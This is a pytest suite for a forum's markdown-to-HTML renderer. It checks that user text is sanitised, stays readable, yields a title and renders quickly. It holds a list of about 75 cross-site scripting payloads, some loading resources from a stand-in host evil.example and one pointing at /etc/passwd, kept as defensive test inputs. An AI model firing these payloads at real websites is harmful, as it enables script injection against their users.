"""What people type becomes safe HTML, whatever it is, and stays readable."""

import html
import time
from html.parser import HTMLParser

import pytest

from forum import words

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div hx-get=/me/ hx-trigger=load>x</div>",
    "<div data-hx-get=/me/ data-hx-trigger=load>x</div>",
    "<a hx-boost=true hx-on:click=alert(1) href=/>x</a>",
    "<p hx-on::load=alert(1)>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;&#97;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example '\" onmouseover=alert(1) x=\"')",
    '[x" onclick=alert(1) y="](https://ok.example)',
    "<javascript:alert(1)>",
    '<https://ok.example/" onclick=alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![" onerror=alert(1) x="](https://evil.example/x)',
    "![<script>alert(1)</script>](x)",
    "[![x](https://evil.example/x)](javascript:alert(1))",
    "[a]: javascript:alert(1)\n\n[a]",
    "```html\n<script>alert(1)</script>\n```",
    "``<script>alert(1)</script>``",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u202e<script>alert(1)</script>",
    "<img/src=`x`onerror=alert(1)>",
    '<a href="&#14; javascript:alert(1)">x</a>',
    "{{ settings.SECRET_KEY }}{% debug %}",
]


class Reader(HTMLParser):
    """Collects what a browser would make of it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data):
        self.tags.add("comment")

    def handle_decl(self, decl):
        self.tags.add("declaration")


def read(text):
    reader = Reader()
    reader.feed(text)
    reader.close()
    return reader


def test_the_corpus_is_large_enough():
    assert len(set(SCRIPTS)) >= 60


@pytest.mark.parametrize("payload", SCRIPTS)
@pytest.mark.parametrize("around", ["{}", "We tried\n\n{}\n\nand it held.", "* {}", "[a {}](https://ok.example)"])
def test_nothing_that_acts_comes_out(payload, around):
    out = words.render(around.replace("{}", payload))
    reader = read(out)
    assert reader.tags <= {"p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "code", "a"}
    for tag, name, value in reader.attributes:
        assert (tag, name) in {("a", "href"), ("a", "rel"), ("ol", "start")}
        if name == "href":
            assert html.unescape(value).split(":")[0].lower() in {"http", "https", "mailto", "tel"} or value.startswith(
                "/"
            )
        if name == "rel":
            assert value == "nofollow noopener"


@pytest.mark.parametrize("payload", SCRIPTS)
def test_titles_are_plain_words(payload):
    title, _rest = words.split(payload)
    assert len(title) <= words.LONGEST_TITLE
    assert "\n" not in title


def test_what_people_type_stays_readable():
    out = words.render("We asked *once*.\nThen **again**:\n\n- at ten\n- at three\n\n> on the kettle")
    assert out == (
        "<p>We asked <em>once</em>.<br>\nThen <strong>again</strong>:</p>\n<ul>\n<li>at ten</li>\n<li>at three</li>\n"
        "</ul>\n<blockquote>\n<p>on the kettle</p>\n</blockquote>"
    )


def test_signs_that_are_not_meant_as_marks_stay_as_typed():
    assert words.render("# 4 on nights\n---\n    a bit of room") == "<p># 4 on nights<br>\n---<br>\na bit of room</p>"
    assert words.plain("<b>not html</b>") == "<b>not html</b>"


def test_a_picture_is_its_words():
    assert words.render("![a kettle](https://evil.example/k.png)") == "<p>a kettle</p>"


def test_links_tell_nobody_where_they_come_from():
    out = words.render("[guide](https://example.org/a?b=1&c=2)")
    assert out == '<p><a href="https://example.org/a?b=1&amp;c=2" rel="nofollow noopener">guide</a></p>'


@pytest.mark.parametrize(
    ("text", "title", "rest"),
    [
        ("How do you ask on nights?", "How do you ask on nights?", ""),
        ("How do you *ask* on nights?\n\nThere is no huddle.", "How do you ask on nights?", "There is no huddle."),
        ("\n\n  Hello\nyou", "Hello", "you"),
        ("- one\n- two", "one", "- two"),
        ("***\nwords", "***", "words"),
    ],
)
def test_the_first_line_is_the_title(text, title, rest):
    assert words.split(text) == (title, rest)


def test_a_long_first_line_gives_its_first_sentence_and_loses_nothing():
    text = "Who asks on nights? " + "We are three on two floors and nobody stands still. " * 6
    assert words.split(text) == ("Who asks on nights?", text.strip())
    endless = "night " * 60
    title, rest = words.split(endless)
    assert title.endswith("night…")
    assert len(title) <= 140
    assert rest == endless.strip()


@pytest.mark.parametrize(
    "piece", ["*", "[", "[a](", "> ", "- ", "`", "_a ", "[a](<", "<", "**a ", "&", "\\", "![", "[[](", "1. "]
)
def test_nothing_that_fits_into_a_post_takes_long(piece):
    text = (piece * 6000)[:6000]
    began = time.perf_counter()
    words.render(text)
    words.split(text)
    assert time.perf_counter() - began < 2
